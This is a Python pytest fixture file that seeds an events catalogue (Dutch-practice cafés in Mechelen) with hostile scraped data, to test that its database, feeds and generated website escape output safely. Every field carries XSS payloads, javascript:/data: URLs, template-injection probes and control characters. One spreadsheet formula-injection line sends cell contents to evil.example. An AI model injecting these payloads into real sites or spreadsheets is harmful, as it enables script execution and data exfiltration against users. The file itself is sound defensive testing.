"""A catalogue whose every scraped field carries script-injection payloads, enriched,
published (database, feeds, OPML, audit reports) once per session.

Every payload that could run sets ``window.__pwned`` (and most also call ``alert``), so a
test only has to check that flag, the dialogs and the DOM.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from catalogue.store import CatalogueStore

MARK = "__pwned"
PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    '"><svg onload=window.__pwned=1;alert(1)>',
    "'><script>window.__pwned=1;alert(1)</script>",
    "</textarea><script>window.__pwned=1;alert(1)</script>",
    "</title></style></script><script>window.__pwned=1;alert(1)</script>",
    '<style>body{background:url("javascript:window.__pwned=1")}</style>'
    '<div style="background-image:url(javascript:window.__pwned=1);width:expression(alert(1))">x</div>',
    '<a href="javascript:window.__pwned=1;alert(1)" id="pwnlink">klik</a>',
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<![CDATA[ ]]> ]]> <?xml version='1.0'?> <!-- --> <x:y xmlns:x='z'>__pwned</x:y>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %} __pwned",
    "\u202eevil\u202c \x00\x07\x1b[31m\x7f\x85 \ufeff zero\u200bwidth \U0001F600 \u0301\u0301 __pwned",
    '=HYPERLINK("http://evil.example/?"&A1,"klik") __pwned',
    "<marquee onstart=window.__pwned=1>" + "lang " * 4000,
]
URL_PAYLOADS = [
    "javascript:window.__pwned=1;alert(1)",
    " JaVaScRiPt:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    'https://example.org/"><script>window.__pwned=1;alert(1)</script>',
    "vbscript:msgbox(1)",
    "https://example.org/?q=<img src=x onerror=window.__pwned=1>",
]
MECHELEN = (51.0257, 4.4776)


def hostile_items() -> list[dict]:
    items = []
    for i, p in enumerate(PAYLOADS):
        url = URL_PAYLOADS[i % len(URL_PAYLOADS)]
        clean_place = i % 2 == 0          # half resolve to Mechelen: facets, town feeds, map
        site_id = f'{i}"><svg onload=window.__pwned=1>' if i == 2 else str(i)
        items.append({
            "id": f"ikdoemee:{site_id}", "source": "ikdoemee", "site_id": site_id,
            "url": url,
            "title": f"Taalcafé {p}",
            "description": f"{p}\nKom Nederlands oefenen, gratis, iedereen welkom. {p}",
            "organizer_id": p, "organizer_name": f"{p} vzw", "organizer_url": url,
            "location_name": p, "street": p,
            "postcode": "2800" if clean_place else p,
            "locality": "Mechelen" if clean_place else p,
            "online": 0,
            "lat": MECHELEN[0] + i / 1000 if clean_place else None,
            "lon": MECHELEN[1] if clean_place else None,
            "start": "2031-03-0%dT19:00:00+01:00" % (1 + i % 9) if i != 5 else p,
            "end": None if i != 7 else p,
            "schedule": f"elke dinsdag {p}", "price_text": f"gratis {p}",
            "offers": [{"name": p, "price": p, "currency": p}], "is_free": None,
            "languages": ["nl", p], "dutch_level": 1 + i % 4,
            "goals": ["nederlands-oefenen", p],
            "contact_name": p, "contact_phone": p, "contact_email": f"{p}@example.org",
            "booking_url": URL_PAYLOADS[(i + 1) % len(URL_PAYLOADS)],
            "status": p if i == 3 else ("cancelled" if i == 4 else "active"),
            "extracted_by": p,
        })
    return items


@pytest.fixture(scope="session")
def hostile_catalogue(tmp_path_factory) -> Path:
    from enrich.run import enrich_db
    path = tmp_path_factory.mktemp("hostile") / "catalogue.db"
    store = CatalogueStore(path)
    for item in hostile_items():
        store.upsert_activity(item, run_id=None)
    enrich_db(path)
    return path


@pytest.fixture(scope="session")
def hostile_site(hostile_catalogue, tmp_path_factory) -> Path:
    from publish.build import build_site
    out = tmp_path_factory.mktemp("hostile-site") / "site"
    summary = build_site(hostile_catalogue, out, base_url="https://doemee.example.org")
    assert summary["activities"] == len(PAYLOADS)
    return out
